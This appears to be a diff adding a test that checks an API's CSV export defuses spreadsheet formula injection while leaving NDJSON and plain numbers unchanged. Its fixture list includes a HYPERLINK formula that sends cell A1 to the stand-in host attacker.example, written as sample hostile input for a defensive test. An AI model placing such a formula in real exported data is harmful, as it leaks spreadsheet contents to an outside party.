@@ -127,3 +127,25 @@ def test_downloads_are_attachments_named_after_the_list_and_the_day(export_clien
     for fmt in ("csv", "ndjson"):
         disposition = export_client.get(f"/v1/statement-links?format={fmt}").headers["content-disposition"]
         assert re.fullmatch(rf'attachment; filename="statement-links-20\d{{6}}\.{fmt}"', disposition)
+
+
+FORMULAS = ['=HYPERLINK("https://attacker.example/?d="&A1,"출처")', "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_json_is_unchanged(
+        export_client: TestClient, session: Session) -> None:
+    org = organization(session)
+    ids = {project(session, organization_id=org, name=formula, name_en="-5"): formula for formula in FORMULAS}
+    budget_id = budget(session, next(iter(ids)), amount=-5, amount_text="-5억 원", currency="USD")
+    params = {"organization_id": org, "fields": "name,name_en", "sort": "id"}
+
+    rows = {int(record["id"]): record for record in csv_records(
+        export_client.get("/v1/projects", params={**params, "format": "csv"}).content)}
+    ndjson = [orjson.loads(line) for line in export_client.get(
+        "/v1/projects", params={**params, "format": "ndjson"}).content.splitlines()]
+    budgets = csv_records(export_client.get("/v1/budgets", params={"id": budget_id, "format": "csv"}).content)
+
+    assert {id_: row["name"] for id_, row in rows.items()} == {id_: "'" + formula for id_, formula in ids.items()}
+    assert {row["name_en"] for row in rows.values()} == {"-5"}  # a number is left a number
+    assert {item["id"]: item["name"] for item in ndjson} == ids
+    assert (budgets[0]["amount"], budgets[0]["amount_text"]) == ("-5", "'-5억 원")
